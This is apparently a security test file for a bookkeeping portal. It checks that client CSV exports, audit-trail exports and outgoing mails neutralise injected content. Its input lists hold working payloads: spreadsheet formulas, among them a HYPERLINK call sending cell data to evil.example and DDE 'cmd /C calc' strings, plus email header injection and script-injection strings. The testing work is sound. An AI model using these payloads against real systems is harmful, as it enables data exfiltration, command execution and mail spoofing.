import type { ClientsPage } from '@portal/contract/clients'
import { BOM } from '@portal/contract/csv'
import { guessMapping } from '../../mf-clients/src/import/columns.ts'
import { checkRows, notImportedCsv } from '../../mf-clients/src/import/check-rows.ts'
import { parseCsv } from '../../mf-clients/src/import/parse.ts'
import { type Caller, newBookkeeper, newClient, type TestBookkeeper, unique } from '../../worker/src/testing/portal.ts'
import { newWork, submit, uploaded } from '../../worker/src/testing/sections.ts'
import { assigned, get, newWorkform, rows, send, sectionsOf } from '../../worker/src/testing/work.ts'
import type { Attack } from './attack.ts'
import { Tally } from './tally.ts'

/** Texts that calculate in a spreadsheet or begin a header of their own, in every file and mail that the portal makes of them. */

const CALL = 'HYPERLINK("http://evil.example/?"&A1,"Click")'
const FORMULAS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  `=${CALL}`,
  "=cmd|' /C calc'!A0",
  '=DDE("cmd";"/C calc";"x")',
  '＝1+1',
  '＋1',
  '－1',
  '＠x',

  "'=1+1",
  "''=1",
  '"=1+1"',
  '";=1+1;"',
  '",=1+1,"',
  `a;=${CALL};b`,
  'a,=1+1,b',
  'a\t=1+1',
  'a;-1',
  "a;'=1",
  'a;;=1',
  ';=1',
  "it's; 'fine'",
  'O"Neil',
  'plain',
  'a|=1+1',
]
const CELL = /^[=+\-@＝＋－＠]/

/** The cells that a spreadsheet set to this delimiter makes of a file: quotes count at the beginning of a cell alone. */
function cellsOf(text: string, delimiter: string): string[] {
  const cells: string[] = []
  let at = 0
  while (at < text.length) {
    let cell = ''
    if (text[at] === '"') {
      for (at++; at < text.length; at++) {
        if (text[at] !== '"') cell += text[at]
        else if (text[at + 1] === '"') cell += text[at++]
        else break
      }
      at++
    }
    for (; at < text.length && text[at] !== delimiter && text[at] !== '\r' && text[at] !== '\n'; at++) cell += text[at]
    at++
    cells.push(cell)
  }
  return cells
}

function judge(tally: Tally, what: string, csv: string): void {
  for (const delimiter of [',', ';', '\t']) {
    for (const cell of cellsOf(csv.replace(BOM, ''), delimiter))
      tally.held(!CELL.test(cell), () => `${what} with ${JSON.stringify(delimiter)}: ${cell.slice(0, 80)}`)
  }
}

const textOf = async (who: Caller, path: string): Promise<string> => {
  const answer = await who.fetch(path)
  const bytes = await answer.arrayBuffer()
  return new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes)
}

const allClients = async (who: Caller): Promise<ClientsPage['items']> =>
  (await get<ClientsPage>(who, '/api/clients?limit=100&sort=created')).items

async function formulas(): Promise<Attack> {
  const tally = new Tally('formulas in every export', 'cells')
  const bookkeeper = await newBookkeeper(undefined, `=${CALL}`)
  for (const name of FORMULAS) {
    const made = await send(bookkeeper, 'POST', '/api/clients', {
      // Names take no web addresses; companies do.
      name: name.replace('http://evil.example/', ''),
      email: `${unique('x')}@example.com`,
      phone: name.slice(0, 40),
      company: name,
    })
    tally.held(made.ok, () => `${name} was refused: ${made.status}`)
  }
  const csv = await textOf(bookkeeper, '/api/clients/export')
  tally.held(csv.startsWith(BOM), () => 'no byte order mark')
  judge(tally, 'the clients', csv)
  const table = parseCsv(csv.replace(BOM, ''))
  judge(
    tally,
    'the rows left out of an import',
    notImportedCsv(
      table.rows[0]?.cells ?? [],
      table.rows.slice(1).map((row) => ({ row, reason: '=1+1' })),
    ),
  )
  const lost = await lostOnTheWay(bookkeeper, csv)
  tally.held(lost.length === 0, () => `clients do not come back as they were: ${lost.join(' ')}`)
  return tally.attack()
}

/** What is lost when another bookkeeper imports the export. */
async function lostOnTheWay(owner: TestBookkeeper, csv: string): Promise<string[]> {
  const { rows: lines } = parseCsv(csv.replace(BOM, ''))
  const [head, ...body] = lines
  const mapping = guessMapping(head?.cells ?? [], body)
  const judged = checkRows(body, mapping, head?.cells.length ?? 0, new Map())
  const other = await newBookkeeper()
  const clients = judged.map(({ cells }) => ({
    ...cells,
    email: cells.email.replace('@', `.${other.userId.slice(-6)}@`),
  }))
  const answer = await send(other, 'POST', '/api/clients/import', { rows: clients, invite: false })
  // An import makes one line of each cell.
  const line = (cell: string | null) => cell?.replace(/\p{Cc}+/gu, ' ') ?? null
  const facts = (items: ClientsPage['items']) =>
    items.map(({ name, phone, company, status }) => JSON.stringify([name, phone, company].map(line).concat(status)))
  const [before, after] = [facts(await allClients(owner)).sort(), facts(await allClients(other)).sort()]
  const lost = before.filter((client) => !after.includes(client))
  return answer.ok ? lost : [`the import answers ${answer.status}`]
}

async function trails(): Promise<Attack> {
  const tally = new Tally('formulas in the trail’s export', 'cells')
  const bookkeeper = await newBookkeeper(undefined, '=1+1')
  const client = await newClient(bookkeeper, '@SUM(A1)')
  for (const evil of FORMULAS.slice(0, 20)) {
    const fields = [{ id: 'scan', name: evil, type: 'file', section: `${evil} ` }]
    const workform = await newWorkform(bookkeeper, { name: evil, description: evil, fields })
    await assigned(bookkeeper, workform, [client.clientId])
    const [section] = await sectionsOf(client.clientId, workform.id)
    const file = await uploaded(client, section?.id ?? '', `${evil}.pdf`)
    const sent = await submit(client, section?.id ?? '', { scan: [file] })
    tally.held(sent.ok, () => `${evil}: ${sent.status}`)
    await send(bookkeeper, 'POST', `/api/sections/${section?.id}/reject`, { version: 1, reason: evil })
  }
  judge(tally, 'the trail', await textOf(bookkeeper, '/api/audit/export'))
  return tally.attack()
}

const HEADERS = [
  'Bea\r\nBcc: victim@evil.example',
  'Bea\nSubject: x',
  'Bea\rX: y',
  'Bea\u2028Bcc: v@evil.example',
  'Bea\0',
  'Bea <script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  'Bea" <evil@evil.example>, "x',
  '=?utf-8?q?=0d=0aBcc:_v@evil.example?=',
  '\u202eaeB',
  'javascript:alert(1)',
  '</title></style><script>alert(1)</script>',
]

interface Kept {
  to: string
  subject: string
  html: string
  from: string
  replyTo: string | null
  unsubscribe: string | null
}

async function mails(): Promise<Attack> {
  const tally = new Tally('headers and markup in every mail', 'mails')
  const people: string[] = []
  for (const evil of HEADERS) {
    const work = await newWork([
      { id: 'note', name: evil, section: evil },
      { id: 'b', name: 'B', section: 'B' },
    ])
    await send(work.bookkeeper, 'PATCH', '/api/profile', { name: evil, company: evil, time_zone: 'UTC' })
    for (const sender_name of [evil, evil.replace(/[<>@]/g, '')]) {
      const saved = await send(work.bookkeeper, 'PUT', '/api/firm-mail/sender', {
        sender_name,
        reply_to: `a,b@evil.example`,
      })
      tally.held(saved.status >= 400 && saved.status < 500, () => `answers go to two addresses: ${saved.status}`)
    }
    await send(work.bookkeeper, 'PUT', '/api/firm-mail/sender', { sender_name: evil, reply_to: 'reply@example.com' })
    const email = `${unique('mail')}@example.com`
    const made = await send(work.bookkeeper, 'POST', '/api/clients', { name: evil, email, phone: '1', company: evil })
    tally.held(made.ok, () => `a client called ${JSON.stringify(evil)}: ${made.status}`)
    await send(work.client, 'POST', `/api/portal/sections/${work.first.id}/submit`, {
      answers: { note: evil },
      version: 0,
    })
    await send(work.bookkeeper, 'POST', `/api/sections/${work.first.id}/reject`, { version: 1, reason: evil })
    people.push(email, work.client.email, work.bookkeeper.email)
  }
  const waiting = () => rows(`SELECT id FROM outbox WHERE kind = 'mail' AND done_at IS NULL AND dead_at IS NULL`)
  for (let tries = 0; (await waiting()).length > 0 && tries < 200; tries++)
    await new Promise((resolve) => setTimeout(resolve, 50))
  const all = (
    await rows<Kept & { reply_to: string | null }>(
      'SELECT "to", subject, html, "from", reply_to, unsubscribe FROM dev_mailbox',
    )
  ).filter((m) => people.includes(m.to))
  tally.held(all.length >= HEADERS.length, () => `only ${all.length} mails`)
  for (const { to, subject, html, from, reply_to, unsubscribe } of all) {
    for (const header of [to, subject, from, reply_to ?? '', unsubscribe ?? ''])
      tally.held(!/[\p{Cc}\p{Zl}\p{Zp}]/u.test(header), () => `a header of two lines: ${JSON.stringify(header)}`)
    tally.held(/^("(?:[^"\\]|\\.)*" <[^<>"]+@[^<>"]+>|[^<>"\s]+@[^<>"\s]+)$/.test(from), () => `from ${from}`)
    const tags = new Set((html.match(/<\/?[a-z!][a-z0-9]*/gi) ?? []).map((t) => t.replace(/[</]/g, '').toLowerCase()))
    const known = new Set([
      '!doctype',
      'html',
      'head',
      'meta',
      'title',
      'style',
      'body',
      'table',
      'tr',
      'td',
      'h1',
      'p',
      'a',
      'br',
    ])
    tally.held(
      [...tags].every((t) => known.has(t)),
      () => `a mail holds ${[...tags].filter((t) => !known.has(t)).join(', ')}`,
    )
    const links = [...html.matchAll(/href="([^"]*)"/g)].map(([, href]) => href ?? '')
    tally.held(
      links.every((href) => /^https?:\/\/127\.0\.0\.1:/.test(href)),
      () => `a mail links to ${links.join(', ')}`,
    )
    tally.held(!/\son\w+=/i.test(html.replaceAll(/>[^<]*</g, '><')), () => 'a mail has a handler')
  }
  return tally.attack()
}

export async function attackExports(): Promise<Attack[]> {
  return [await formulas(), await trails(), await mails()]
}
